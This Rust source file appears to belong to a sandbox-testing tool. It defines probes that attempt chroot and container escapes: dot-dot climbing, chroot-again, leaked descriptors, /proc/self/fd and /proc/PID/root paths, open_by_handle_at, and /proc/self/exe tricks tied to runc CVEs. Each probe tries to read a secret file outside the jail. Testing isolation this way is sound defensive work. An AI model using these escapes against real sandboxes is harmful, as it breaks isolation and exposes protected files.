//! Ways out of a root directory.

use super::Probes;
use crate::raw::{self, Word};
use crate::scene::{DIRECTORY, HERE, Path, READ, Scene, close, open, open_at};
use crate::{At, Stop, Tried, numbers};

pub const PROBES: Probes = &[
    ("root-absolute", absolute),
    ("root-dot-dot", dot_dot),
    ("root-chroot-again", chroot_again),
    ("root-chroot-mkdir", chroot_mkdir),
    ("root-leaked-descriptor", leaked_descriptor),
    ("root-descriptor-directory", descriptor_directory),
    ("root-handle", handle),
    ("proc-root", proc_root),
    ("proc-cwd", proc_cwd),
    ("proc-exe", proc_exe),
    ("proc-own-exe", proc_own_exe),
];

/// More directories than a path has.
const UP: &[u8] = b"../../../../../../../../../../../../../../../../";

/// What the kernel says of descriptors that are not open is no protection; the last one that is
/// open and of use decides.
const MOST_DESCRIPTORS: i32 = 4200;

fn secret(scene: Scene, prefix: &[u8]) -> Result<Path, Stop> {
    let path = scene.text("secret")?.to_bytes();
    Ok(Path::new().with(prefix).with(path))
}

fn absolute(scene: Scene) -> Tried {
    let file = open(scene.text("secret")?, READ).at("open a file outside by its path")?;
    scene.read_secret(file)
}

fn dot_dot(scene: Scene) -> Tried {
    let path = secret(scene, UP)?;
    let file = open(path.text(), READ).at("open a file outside by ..")?;
    scene.read_secret(file)
}

/// The classic: a root directory below the present one, while the working directory stays above.
fn chroot_again(scene: Scene) -> Tried {
    let above = open(c"/", DIRECTORY).at("open the root directory")?;
    raw::call(numbers::CHROOT, [scene.text("directory")?.into()])
        .at("change the root to a directory below")?;
    climb(scene, above)
}

fn chroot_mkdir(scene: Scene) -> Tried {
    let below = Path::new()
        .with(scene.text("writable")?.to_bytes())
        .with(b"/.gaoler-below");
    let above = open(c".", DIRECTORY).at("open the working directory")?;
    raw::call(
        numbers::MKDIRAT,
        [HERE.into(), below.text().into(), 0o700.into()],
    )
    .at("make a directory to change the root to")?;
    let changed = raw::call(numbers::CHROOT, [below.text().into()]);
    if changed.is_err() {
        const REMOVE_DIRECTORY: usize = 0x200;
        let words = [HERE.into(), below.text().into(), REMOVE_DIRECTORY.into()];
        raw::call(numbers::UNLINKAT, words).at("remove the directory")?;
    }
    changed.at("change the root to a new directory")?;
    climb(scene, above)
}

fn climb(scene: Scene, above: usize) -> Tried {
    raw::call(numbers::FCHDIR, [above.into()]).at("enter a directory above the root")?;
    for _ in 0..64 {
        raw::call(numbers::CHDIR, [c"..".into()]).at("climb")?;
    }
    raw::call(numbers::CHROOT, [c".".into()]).at("make the top the root")?;
    let secret = scene.text("secret")?;
    let file = open(secret, READ).at("open a file outside")?;
    scene.read_secret(file)
}

fn leaked_descriptor(scene: Scene) -> Tried {
    let path = secret(scene, UP)?;
    let mut last = Err(Stop::Nothing("no descriptor is open that leads out"));
    for descriptor in 0..MOST_DESCRIPTORS {
        match open_at(descriptor, path.text(), READ) {
            Ok(file) => return scene.read_secret(file),
            // Not open, or no directory.
            Err(refused) if [9, 20].contains(&refused.errno) => {}
            refused => {
                last = refused
                    .at("open a file outside from a descriptor")
                    .map(|_| "")
            }
        }
    }
    last
}

/// As runc's working directory was (CVE-2024-21626).
fn descriptor_directory(scene: Scene) -> Tried {
    let secret = scene.text("secret")?.to_bytes();
    for descriptor in 0..64 {
        let path = Path::new()
            .with(b"/proc/self/fd/")
            .with_number(descriptor)
            .with(b"/")
            .with(UP)
            .with(secret);
        if let Ok(file) = open(path.text(), READ) {
            return scene.read_secret(file);
        }
    }
    let path = Path::new().with(b"/proc/self/fd/");
    open(path.text(), DIRECTORY).at("open /proc/self/fd")?;
    Err(Stop::Nothing("no descriptor of it leads out"))
}

/// `open_by_handle_at(2)` finds a file by its number, wherever the root is.
fn handle(scene: Scene) -> Tried {
    let mut handle = [0_u8; 136];
    let text = scene.text("handle")?.to_bytes();
    for (place, digits) in handle.iter_mut().zip(text.chunks_exact(2)) {
        *place = digit(digits[0]) << 4 | digit(digits[1]);
    }
    let root = open(scene.text("top")?, DIRECTORY).at("open the root directory")?;
    let words = [root.into(), (&mut handle).into(), DIRECTORY.into()];
    raw::call(numbers::OPEN_BY_HANDLE_AT, words).at("open the directory above by its handle")?;
    Ok("opened the directory above the root by its handle")
}

fn digit(byte: u8) -> u8 {
    match byte {
        b'0'..=b'9' => byte - b'0',
        b'a'..=b'f' => byte - b'a' + 10,
        _ => 0,
    }
}

/// Through `/proc/PID/NAME` of the first process, of this one's parent and of one outside.
fn through_proc(scene: Scene, name: &[u8], step: &'static str) -> Tried {
    let secret = scene.text("secret")?.to_bytes();
    let outside = scene.number("victim")?;
    let mut last = Err(Stop::Nothing("no process of it leads out"));
    for pid in [outside, 1, 2] {
        let path = Path::new()
            .with(b"/proc/")
            .with_number(pid)
            .with(name)
            .with(UP)
            .with(secret);
        match open(path.text(), READ) {
            Ok(file) => match scene.read_secret(file) {
                Ok(gained) => return Ok(gained),
                Err(stop) => last = Err(stop),
            },
            refused => last = refused.at(step).map(|_| ""),
        }
    }
    last
}

fn proc_root(scene: Scene) -> Tried {
    through_proc(scene, b"/root/", "open a file through /proc/PID/root")
}

fn proc_cwd(scene: Scene) -> Tried {
    through_proc(scene, b"/cwd/", "open a file through /proc/PID/cwd")
}

/// The program of a process outside, opened by the link that leads to it.
fn proc_exe(scene: Scene) -> Tried {
    let path = Path::new()
        .with(b"/proc/")
        .with_number(scene.number("victim")?)
        .with(b"/exe");
    open(path.text(), READ).at("open the program of a process outside")?;
    Ok("opened the program of a process outside")
}

/// The launcher itself, if it is still what runs (CVE-2019-5736): its own link, and its parent's.
fn proc_own_exe(_: Scene) -> Tried {
    let mut program = [0_u8; 64];
    let words: [Word<'_>; 4] = [
        HERE.into(),
        c"/proc/self/exe".into(),
        (&mut program).into(),
        64.into(),
    ];
    raw::call(numbers::READLINKAT, words).at("read /proc/self/exe")?;
    let parent = open(c"/proc/1/exe", READ).at("open the program of the first process")?;
    close(parent);
    Ok("opened the program of the first process")
}
